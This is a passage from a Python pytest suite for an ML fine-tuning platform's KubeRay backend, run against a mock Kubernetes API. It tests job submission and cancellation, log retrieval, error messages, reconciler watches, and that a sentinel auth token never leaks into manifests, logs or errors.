        if kube_api.watchers():
            break
        time.sleep(0.05)
    operator_sets_status(backend, job, jobDeploymentStatus="Complete", jobStatus="SUCCEEDED")
    assert next_event() == (job.id, RunStatus(RunPhase.SUCCEEDED))
    assert backend.status(job) == RunStatus(RunPhase.SUCCEEDED)

    backend.cancel(job)
    assert next_event() == (job.id, RunStatus(RunPhase.MISSING, "the RayJob was deleted"))
    assert events.get(timeout=15) is None
    watcher.join(10)
    assert not watcher.is_alive()
    assert rayjobs() == [] and configmaps() == [] and policies() == []
    assert backend.status(job).phase == RunPhase.MISSING
    backend.cancel(job)  # idempotent: 404s ignored
    assert backend.status(job).phase == RunPhase.MISSING
    deletes = [
        r for r in list(kube_api.handler) if r.method == "DELETE" and r.resource == "ray.io/v1/rayjobs"
    ]
    assert len(deletes) == 2 and all(r.params.get("propagationPolicy") == "Background" for r in deletes)
    deleted = [r.url.path for r in list(kube_api.handler) if r.method == "DELETE"]
    policy_path = f"/apis/networking.k8s.io/v1/namespaces/{job.namespace}/networkpolicies/{job.id}-network"
    assert deleted.count(policy_path) == 2


def test_network_policy_can_be_left_to_the_operator(kube_api: KubeApiServer) -> None:
    job = make_job("llama3-8b-lora-zero2.yaml", "no-policy-job")
    backend = KubeRayBackend(make_config(api_server=kube_api.url, network_policy={"enabled": False}))
    try:
        backend.submit(job)
        backend.cancel(job)
    finally:
        backend.close()
    sent = [(r.method, r.resource.plural) for r in list(kube_api.handler) if job.id in named(r)]
    assert sent == [
        ("POST", "configmaps"),
        ("POST", "rayjobs"),
        ("DELETE", "rayjobs"),
        ("DELETE", "configmaps"),
    ]


def test_no_ray_token_in_manifests_logs_or_errors(
    kube_api: KubeApiServer,
    backend: KubeRayBackend,
    caplog: pytest.LogCaptureFixture,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The cluster's token lives only in the Secret KubeRay creates: Tuneplane never reads it, renders it,
    logs it or quotes it, whatever the API answers."""
    token = "ray-token-sentinel-5d1e7c"
    monkeypatch.setenv("RAY_AUTH_TOKEN", token)  # even one in the control plane's own environment
    caplog.set_level(logging.DEBUG)
    # A namespace of its own: the fake API ignores label selectors, so its pods would show in other tests.
    spec = make_job("llama3-8b-lora-zero2.yaml", "token-job").spec
    job = BackendJob(id="token-job", team="team-a", namespace="ml-team-token", spec=spec)
    core = k8s.CoreV1Api(backend.api_client)
    manifests = [render_configmap(job, backend.config), render_rayjob(job, backend.config)]
    manifests.append(render_network_policy(job, backend.config))
    backend.submit(job)
    # Play KubeRay: the RayCluster's Secret with a random token, then the job running and its logs.
    secret_name, encoded = f"{job.id}-abc12", base64.b64encode(token.encode()).decode()
    secret = {"metadata": {"name": secret_name}, "data": {"auth_token": encoded}}
    core.create_namespaced_secret(job.namespace, secret)
    operator_sets_status(backend, job, jobDeploymentStatus="Running", jobStatus="RUNNING", message="running")
    submitter = {
        "metadata": {"name": f"{job.id}-x1", "namespace": job.namespace, "labels": {"job-name": job.id}},
        "spec": {"containers": [{"name": "ray-job-submitter", "image": "ray"}]},
        "status": {"phase": "Running"},
    }
    core.create_namespaced_pod(job.namespace, submitter)
    log = kmock.Response(payload=b"Job submitted\nstep 1 loss 6.9", headers={"Content-Type": "text/plain"})
    kube_api.react(f"get /api/v1/namespaces/{job.namespace}/pods/{job.id}-x1/log", log)
    seen = [str(backend.status(job)), *backend.logs(job)]
    backend.cancel(job)
    # Errors whose response bodies quote the token (as a careless admission webhook might).
    errors = []
    leaky = BackendJob(id="token-leak", team="team-a", namespace="ml-team-leak", spec=spec)
    body = {"kind": "Status", "code": 422, "reason": "Invalid", "message": f"denied: {token}"}
    for request in [
        f"post /apis/networking.k8s.io/v1/namespaces/{leaky.namespace}/networkpolicies",
        f"delete /api/v1/namespaces/{leaky.namespace}/configmaps/{leaky.id}-spec",
    ]:
        kube_api.react(request, kmock.Response(status=422, payload=body))
    for call in (backend.submit, backend.cancel):
        with pytest.raises(BackendError) as err:
            call(leaky)
        errors.append(str(err.value))
    assert errors == [
        "create NetworkPolicy ml-team-leak/token-leak-network: HTTP 422 Unprocessable Entity",
        "delete ConfigMap ml-team-leak/token-leak-spec: HTTP 422 Unprocessable Entity",
    ]

    # The sentinel really is in the fake cluster (KubeRay's Secret) ...
    stored = core.read_namespaced_secret(secret_name, job.namespace).data["auth_token"]
    assert base64.b64decode(stored).decode() == token
    # ... and nowhere Tuneplane put anything.
    ours = [r for r in caplog.records if not r.name.startswith(("kmock", "aiohttp", "asyncio"))]
    assert ours, "nothing was logged: the check would prove nothing"
    for text in [json.dumps(manifests), *seen, *errors, *(r.getMessage() for r in ours)]:
        assert token not in text
    assert "RAY_AUTH_TOKEN" not in json.dumps(manifests)
    # The backend never asked for a Secret: only the test (playing KubeRay) touched them.
    secret_requests = [(r.method, r.url.path) for r in list(kube_api.handler) if "/secrets" in r.url.path]
    assert secret_requests == [
        ("POST", f"/api/v1/namespaces/{job.namespace}/secrets"),
        ("GET", f"/api/v1/namespaces/{job.namespace}/secrets/{secret_name}"),
    ]


def test_client_from_kubeconfig(kube_api: KubeApiServer, tmp_path: Path) -> None:
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(
        yaml.safe_dump(
            {
                "apiVersion": "v1",
                "kind": "Config",
                "clusters": [{"name": "kmock", "cluster": {"server": kube_api.url}}],
                "users": [{"name": "tester", "user": {"token": "not-a-real-token"}}],
                "contexts": [{"name": "kmock", "context": {"cluster": "kmock", "user": "tester"}}],
                "current-context": "kmock",
            }
        )
    )
    backend = KubeRayBackend(make_config(kubeconfig=str(kubeconfig)))
    try:
        assert backend.status(make_job("tiny-cpu.yaml", "via-kubeconfig")).phase == RunPhase.MISSING
    finally:
        backend.close()


def test_missing_credentials_are_a_backend_error(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)
    with pytest.raises(BackendError, match="in-cluster service account"):
        KubeRayBackend(make_config())
    with pytest.raises(BackendError, match="cannot load Kubernetes credentials from kubeconfig"):
        KubeRayBackend(make_config(kubeconfig=str(tmp_path / "absent")))


def test_status_of_unknown_job_is_missing(backend: KubeRayBackend) -> None:
    job = make_job("tiny-cpu.yaml", "never-submitted")
    assert backend.status(job).phase == RunPhase.MISSING


def test_logs_from_the_submitter_pod(kube_api: KubeApiServer, backend: KubeRayBackend) -> None:
    job = make_job("tiny-cpu.yaml", "tiny-cpu-logs")
    assert list(backend.logs(job)) == []  # no submitter pod yet
    core = k8s.CoreV1Api(backend.api_client)
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {
            "name": "tiny-cpu-logs-x7k2p",
            "namespace": job.namespace,
            "labels": {"job-name": job.id},
        },
        "spec": {"containers": [{"name": "ray-job-submitter", "image": "ray"}]},
        "status": {"phase": "Running"},
    }
    core.create_namespaced_pod(job.namespace, pod)
    log = b"step 1 loss 6.9\nstep 2 loss 6.1\ndone"
    text = kmock.Response(payload=log, headers={"Content-Type": "text/plain"})  # as the kubelet sends it
    kube_api.react(f"get /api/v1/namespaces/{job.namespace}/pods/tiny-cpu-logs-x7k2p/log", text)
    assert list(backend.logs(job)) == ["step 1 loss 6.9", "step 2 loss 6.1", "done"]
    assert list(backend.logs(job, follow=True)) == ["step 1 loss 6.9", "step 2 loss 6.1", "done"]
    reads = [r for r in list(kube_api.handler) if r.url.path.endswith("/log")]
    assert (
        reads[-1].params.get("follow") == "true" and reads[-1].params.get("container") == "ray-job-submitter"
    )


def test_api_errors_name_the_object_not_the_body(kube_api: KubeApiServer) -> None:
    job = make_job("llama3-8b-lora-zero2.yaml", "forbidden-job")
    # a 403 from the API server, with a body that would leak if echoed
    body = {"kind": "Status", "code": 403, "reason": "Forbidden", "message": SECRET_SENTINEL}
    kube_api.react(
        f"get /apis/ray.io/v1/namespaces/{job.namespace}/rayjobs/{job.id}",
        kmock.Response(status=403, payload=body),
    )
    backend = KubeRayBackend(make_config(api_server=kube_api.url))
    try:
        with pytest.raises(BackendError) as err:
            backend.status(job)
    finally:
        backend.close()
    assert str(err.value) == f"get RayJob ml-team-a/{job.id}: HTTP 403 Forbidden"
    unreachable = KubeRayBackend(make_config(api_server="http://127.0.0.1:9"))
    with pytest.raises(BackendError, match=r"create ConfigMap ml-team-a/.*: cannot reach the Kubernetes API"):
        unreachable.submit(job)
    unreachable.close()


def test_pool_accelerator_type_and_artifact_root_reach_the_entrypoint() -> None:
    def env_of(obj: dict[str, Any]) -> dict[str, str]:
        head = obj["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
        return {e["name"]: e.get("value", "") for e in head["env"]}

    gpu = render_rayjob(make_job("llama3-8b-lora-zero2.yaml", "llama3-8b-a1"), make_config())
    assert env_of(gpu)["TUNEPLANE_ACCELERATOR_TYPE"] == "H100"  # -> ScalingConfig(accelerator_type=...)
    assert "TUNEPLANE_ARTIFACT_ROOT" not in env_of(gpu)  # the tracking server decides
    cpu = render_rayjob(
        make_job("tiny-cpu.yaml", "tiny-cpu-a1"), make_config(artifact_root="s3://tuneplane/mlartifacts")
    )
    assert "TUNEPLANE_ACCELERATOR_TYPE" not in env_of(cpu)
    assert env_of(cpu)["TUNEPLANE_ARTIFACT_ROOT"] == "s3://tuneplane/mlartifacts"


def test_control_plane_on_kuberay_follows_by_watch_and_cancels(
    kube_api: KubeApiServer, backend: KubeRayBackend, tmp_path: Path
) -> None:
    """The reconciler drives RayJobs in the team's namespace; a watch event wakes it; cancel removes the RayJob."""
    from tuneplane.control.reconciler import Reconciler
    from tuneplane.store import Database, Principal, cancel_job, create_job

    db = Database(f"sqlite:///{tmp_path / 'cp.db'}")
    db.migrate()
    config = backend.config.model_copy(
        update={
            "reconcile_interval_s": 60.0,
            "tracking_uri": f"sqlite:///{tmp_path / 'mlflow.db'}",
            "validate_data": False,  # only the job's pods hold the storage credentials
        }
    )
    reconciler = Reconciler(db, backend, config)
    team = Principal("team-a")
    # A cluster job reads object storage only (a local path would fail the job's validation).
    raw = load_spec(REPO / "jobs" / "tiny-cpu.yaml").to_dict()
    raw["model"]["base"] = "s3://models/tiny-llama"
    for group in (raw["data"]["sources"], raw["data"]["eval_sources"], raw["eval"]["zero_shot_sources"]):
        for i, source in enumerate(group):
            source["uri"] = f"s3://datasets/tiny/{i}.jsonl"
    raw["eval"].update(gate=None, lm_eval=None)  # the gate names tasks by the file names replaced here
    spec = parse_spec(raw)
    with db.session() as s:
        done_id = create_job(s, team, spec, 0)[0].id
        stopped_id = create_job(s, team, spec, 0)[0].id
    reconciler.run_once()
    custom = k8s.CustomObjectsApi(backend.api_client)
    names = {
        o["metadata"]["name"]
        for o in custom.list_namespaced_custom_object(GROUP, VERSION, "ml-team-a", PLURAL)["items"]
    }
    assert names == {done_id, stopped_id}  # quota 2 (default), both in the team's namespace

    stop = threading.Event()
    reconciler.watch_backend(stop)
    for _ in range(100):
        if kube_api.watchers():
            break
        time.sleep(0.05)
    reconciler.wake.clear()
    done = BackendJob(id=done_id, team="team-a", namespace="ml-team-a", spec=spec)
    operator_sets_status(backend, done, jobDeploymentStatus="Complete", jobStatus="SUCCEEDED")
    assert reconciler.wake.wait(15), "the watch did not wake the reconciler"
    with db.session() as s:
        cancel_job(s, team, stopped_id)
    reconciler.run_once()  # deletes the cancelled RayJob
    reconciler.run_once()  # sees it gone
    stop.set()
    operator_sets_status(backend, done, jobDeploymentStatus="Complete", jobStatus="SUCCEEDED", message="x")
    for _ in range(100):  # the next event ends the watch thread
        if not kube_api.watchers():
            break
        time.sleep(0.05)
    assert not kube_api.watchers()
    with db.session() as s:
        from tuneplane.store import Job

        assert s.get(Job, done_id).state == "SUCCEEDED"
        assert s.get(Job, stopped_id).state == "CANCELLED"
    left = custom.list_namespaced_custom_object(GROUP, VERSION, "ml-team-a", PLURAL)["items"]
    assert [o["metadata"]["name"] for o in left] == [done_id]  # shutdownAfterJobFinishes/TTL clean the rest
    db.dispose()


def test_jobs_log_to_an_authenticated_mlflow_as_their_team_from_a_secret() -> None:
    """With MLflow's authentication on, a job's pods read their team's MLflow user from the team's Secret:
    the manifest names the Secret and carries no credential."""
    config = make_config(tracking_secret="tuneplane-mlflow-team").model_copy(update={"tracking_auth": True})
    rayjob = render_rayjob(make_job("tiny-cpu.yaml", "tiny-cpu-a2"), config)
    head = rayjob["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    env = {e["name"]: e for e in head["env"]}
    for name, key in (("MLFLOW_TRACKING_USERNAME", "username"), ("MLFLOW_TRACKING_PASSWORD", "password")):
        assert env[name] == {
            "name": name,
            "valueFrom": {"secretKeyRef": {"name": "tuneplane-mlflow-team", "key": key}},
        }
    with pytest.raises(ValueError, match=r"backend\.tracking_secret"):
        PlatformConfig.model_validate(
            {
                **config.model_dump(),
                "tracking_uri": "http://tuneplane-mlflow:5000",
                "backend": {**config.backend.model_dump(), "tracking_secret": None},
            }
        )
